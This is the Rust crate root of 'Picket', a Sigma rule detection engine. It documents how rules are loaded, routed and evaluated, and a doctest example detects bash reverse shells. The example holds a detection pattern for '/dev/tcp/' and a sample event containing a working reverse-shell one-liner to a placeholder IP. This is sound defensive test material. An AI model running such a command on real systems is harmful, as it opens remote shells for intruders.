//! Picket's detection engine: Sigma v2.1 rules evaluated on events.
//!
//! # Architecture
//!
//! ```text
//!  YAML files ──► rule::parse_info / rule::compile ──► RuleSet (immutable, Send + Sync)
//!                  │ modifiers applied to values at load time          │
//!                  │ (windash, base64offset, utf16, expand, ...)       │ routing index:
//!                  │ needles case-folded, grouped (Aho-Corasick)       │ (product, category, service)
//!                  ▼                                                   ▼
//!  errors: Vec<RuleError> (file, rule, place)     evaluate(&LogSource, &impl Event, &mut Vec<Match>)
//! ```
//!
//! * **Loading** ([`RuleSet::from_dir`], [`RuleSet::from_sources`]) parses
//!   each document with `yaml-rust2`, compiles its detection into matchers
//!   and its condition into a boolean tree over them. A rule that fails is
//!   reported in [`Loaded::errors`] with its file, id/title and [`Place`];
//!   the others load.
//! * **Routing**: an event comes with a [`LogSource`]; only the rules whose
//!   logsource agrees with it (each field the rule sets equals the event's)
//!   are evaluated. The index is a hash map keyed by interned logsource
//!   names, so routing costs at most eight lookups.
//! * **Evaluation** is sans-IO and allocation-free until a rule matches:
//!   fields are fetched from the [`Event`] at most once per event into a
//!   per-thread cache that holds their text and case-folded text; all
//!   values were folded at load time, so case-insensitive matching is a
//!   plain byte comparison (`memchr` for substrings, Aho-Corasick for long
//!   lists of substrings).
//! * **Mappings**: [`EngineConfig`] carries placeholder values and field
//!   renames applied at load; [`windows`] normalizes EVTX records and routes
//!   them (Sysmon, Security 4688 renames, Defender); the Linux sensor emits
//!   Sysmon-for-Linux names, so Linux needs no mapping.
//!
//! # Example
//!
//! ```
//! use picket_rules::{EngineConfig, LogSource, RuleSet};
//!
//! let rule = r#"
//! title: Reverse shell via bash
//! id: 5c3f1e9a-0000-4000-8000-000000000001
//! status: test
//! level: high
//! author: Picket
//! tags: [attack.execution, attack.t1059.004]
//! logsource: {product: linux, category: process_creation}
//! detection:
//!     selection:
//!         Image|endswith: '/bash'
//!         CommandLine|contains|all: ['/dev/tcp/', '>&']
//!     filter:
//!         User: root
//!     condition: selection and not filter
//! "#;
//! let loaded = RuleSet::from_sources([("rev.yml", rule)], &EngineConfig::new());
//! assert!(loaded.errors.is_empty());
//! let rules = loaded.rules;
//!
//! let event = serde_json::json!({
//!     "Image": "/usr/bin/bash",
//!     "CommandLine": "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1",
//!     "User": "www-data",
//! });
//! let mut alerts = Vec::new();
//! rules.evaluate(&LogSource::category("linux", "process_creation"), &event, &mut alerts);
//! assert_eq!(alerts.len(), 1);
//! assert_eq!(alerts[0].rule.techniques, ["T1059.004"]);
//! assert_eq!(alerts[0].rule.tactics[0].id, "TA0002");
//! assert_eq!(alerts[0].fields[0].name, "Image");
//!
//! // Other logsources never see the rule.
//! alerts.clear();
//! rules.evaluate(&LogSource::category("linux", "file_event"), &event, &mut alerts);
//! assert!(alerts.is_empty());
//! ```

pub mod attack;
mod cidr;
mod condition;
mod config;
pub mod correlation;
mod error;
mod event;
mod matcher;
mod modifier;
mod pattern;
mod rule;
mod ruleset;
mod timestamp;
pub mod windows;

pub use attack::Tactic;
pub use config::{EngineConfig, FieldMapping};
pub use correlation::{CorrelationLimits, CorrelationMatch, CorrelationStats, CorrelationType, Correlator};
pub use error::{ErrorKind, LoadError, Place, RuleError};
pub use event::{Event, Value};
pub use rule::{Level, RuleInfo, RuleLogSource, Status};
pub use ruleset::{Loaded, LogSource, Match, MatchedField, RuleSet};
